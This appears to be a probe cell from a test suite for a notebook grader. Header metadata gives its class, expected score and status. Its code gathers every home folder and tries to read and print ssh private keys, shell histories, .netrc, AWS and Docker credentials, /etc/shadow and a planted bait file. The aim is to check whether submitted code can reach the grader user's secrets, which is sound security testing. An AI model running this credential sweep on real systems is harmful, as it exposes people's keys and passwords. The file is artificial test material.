# class: secrets
# honest: poor
# probe: secret
# expect: score == honest; status graded
# in kernel: reads keys, histories and credentials of the grader's user

# %% [markdown]
# Read the home folders and the machine's credentials: ssh keys, shell histories, `.netrc`, `/etc/shadow`, cloud and
# Docker configuration, the bait. In a shared process the notebook has the grader's user and its files.

# %%
import os
import pwd

homes = {entry.pw_dir for entry in pwd.getpwall()} | {"/root", os.path.expanduser("~"), "/home/ubuntu"} if os.path.exists("/etc/passwd") else {"/root"}
paths = [bait["secret file"], "/etc/shadow", "/etc/gshadow", "/etc/ssh/ssh_host_ed25519_key", "/run/secrets", "/var/run/docker.sock"]
for home in homes:
    paths += [os.path.join(home, name) for name in (".ssh/id_rsa", ".ssh/id_ed25519", ".ssh/authorized_keys", ".netrc", ".bash_history", ".aws/credentials", ".docker/config.json", ".gitconfig")]
for path in paths:
    try:
        print("FOUND", path, open(path, errors="replace").read(200))
    except OSError:
        pass
